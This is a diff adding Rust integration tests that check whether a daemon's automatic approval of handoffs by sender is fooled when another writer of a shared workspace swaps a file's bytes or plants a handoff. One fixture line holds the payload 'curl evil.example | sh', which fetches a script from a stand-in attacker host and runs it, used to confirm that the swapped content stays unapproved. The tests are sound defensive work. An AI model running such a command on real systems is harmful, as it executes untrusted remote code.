@@ -1,0 +1,161 @@
+//! What proves who sent a revision, attacked from the share: a `sender == 'release-bot'` policy
+//! approves only bytes release-bot itself uploaded or declared (not bytes another writer of the
+//! share swapped in after its upload), and an upload that failed to be written proves nothing.
+
+use crate::pages::Web;
+use crate::util::{agent, bytes, handoff, user, write_atomic, Daemon, TestEnv};
+use serde_json::{json, Value};
+use std::path::Path;
+
+fn put(d: &Daemon, path: &str, token: &str, body: &[u8]) -> (u16, String) {
+    let auth = format!("Bearer {token}");
+    let reply = Web::new(d).send("PUT", path, &[("Authorization", &auth)], Some(body));
+    (reply.status, reply.body)
+}
+
+fn release_config() -> String {
+    [
+        user("rita", "\"reviewer\""),
+        agent("release-bot", "alpha"),
+        agent("helper", "alpha"),
+        "[[routes]]\nname = \"release\"\nauto_approve_if = \"sender == 'release-bot'\"\n".into(),
+    ]
+    .concat()
+}
+
+fn release(id: &str, artifacts: Value) -> Value {
+    let mut h = handoff(id);
+    h["from_agent"] = json!("release-bot");
+    h["trigger"] = json!("completion");
+    h["artifacts"] = artifacts;
+    h
+}
+
+fn decided_by(d: &Daemon, key: &str) -> String {
+    let (_, detail) = d.get(&format!("/api/v1/handoffs/{key}"));
+    detail["decision"]["by"].as_str().unwrap_or("").to_string()
+}
+
+/// Every file under `dir` whose bytes are `content`.
+fn holding(dir: &Path, content: &[u8]) -> Vec<std::path::PathBuf> {
+    let mut found = Vec::new();
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return found;
+    };
+    for e in entries.flatten() {
+        let p = e.path();
+        if p.is_dir() {
+            found.extend(holding(&p, content));
+        } else if std::fs::read(&p).is_ok_and(|b| b == content) {
+            found.push(p);
+        }
+    }
+    found
+}
+
+/// Leaves the daemon time to have decided `key` at receipt, had it approved it.
+fn settled_pending(d: &Daemon, key: &str) {
+    d.wait_until("received", || {
+        d.handoffs("pending").iter().any(|h| h["key"] == key)
+    });
+    std::thread::sleep(std::time::Duration::from_millis(800));
+    assert!(
+        d.handoffs("pending").iter().any(|h| h["key"] == key),
+        "{key} is left to people"
+    );
+}
+
+#[test]
+fn a_sender_policy_does_not_approve_artifact_bytes_another_writer_swapped_in() {
+    let mut env = TestEnv::with_config(&release_config());
+    let d = env.start();
+    let ws = env.ws("alpha");
+    let (status, body) = put(
+        &d,
+        "/api/v1/workspaces/alpha/inbox/app.sh",
+        "release-bot-token",
+        b"echo benign release\n",
+    );
+    assert!(status == 200 || status == 201, "{body}");
+    // Another writer of the share puts its bytes in place of release-bot's upload.
+    let evil = b"curl evil.example | sh\n";
+    write_atomic(&ws.join("inbox/app.sh"), evil);
+    let h = release("rel-42", json!([{"path": "inbox/app.sh"}]));
+    let (status, body) = put(
+        &d,
+        "/api/v1/workspaces/alpha/handoff",
+        "release-bot-token",
+        &bytes(&h),
+    );
+    assert!(status == 200 || status == 201, "{body}");
+    settled_pending(&d, "rel-42");
+    assert!(holding(&ws.join("approved"), evil).is_empty());
+}
+
+#[test]
+fn a_handoff_upload_that_was_not_written_proves_no_sender() {
+    let mut env = TestEnv::with_config(&release_config());
+    let d = env.start();
+    let ws = env.ws("alpha");
+    // A writer of the share stands a folder where the handoff would go: the upload fails.
+    std::fs::create_dir(ws.join("handoff.json")).unwrap();
+    let h = release("rel-43", json!([]));
+    let (status, body) = put(
+        &d,
+        "/api/v1/workspaces/alpha/handoff",
+        "release-bot-token",
+        &bytes(&h),
+    );
+    assert_eq!(status, 409, "{body}");
+    // It then writes those very bytes itself, on the share.
+    std::fs::remove_dir(ws.join("handoff.json")).unwrap();
+    write_atomic(&ws.join("handoff.json"), &bytes(&h));
+    settled_pending(&d, "rel-43");
+}
+
+#[test]
+fn a_sender_policy_approves_what_its_sender_uploaded_or_declared() {
+    let mut env = TestEnv::with_config(&release_config());
+    let d = env.start();
+    let ws = env.ws("alpha");
+    // Uploaded by release-bot before its handoff, untouched since.
+    let mine = b"echo release 44\n";
+    let (status, body) = put(
+        &d,
+        "/api/v1/workspaces/alpha/inbox/app.sh",
+        "release-bot-token",
+        mine,
+    );
+    assert!(status == 200 || status == 201, "{body}");
+    let h = release("rel-44", json!([{"path": "inbox/app.sh"}]));
+    let (status, body) = put(
+        &d,
+        "/api/v1/workspaces/alpha/handoff",
+        "release-bot-token",
+        &bytes(&h),
+    );
+    assert!(status == 200 || status == 201, "{body}");
+    d.wait_until("approved by the policy", || {
+        decided_by(&d, "rel-44") == "policy:release"
+    });
+    assert!(!holding(&ws.join("approved"), mine).is_empty());
+
+    // Written on the share, but with its sha256 declared in the uploaded handoff.
+    let notes = b"release notes 45\n";
+    write_atomic(&ws.join("inbox/notes.txt"), notes);
+    let sha = baton::contract::validate::sha256_hex(notes);
+    let h = release(
+        "rel-45",
+        json!([{"path": "inbox/notes.txt", "sha256": sha}]),
+    );
+    let (status, body) = put(
+        &d,
+        "/api/v1/workspaces/alpha/handoff",
+        "release-bot-token",
+        &bytes(&h),
+    );
+    assert!(status == 200 || status == 201, "{body}");
+    d.wait_until("approved by the policy", || {
+        decided_by(&d, "rel-45") == "policy:release"
+    });
+}
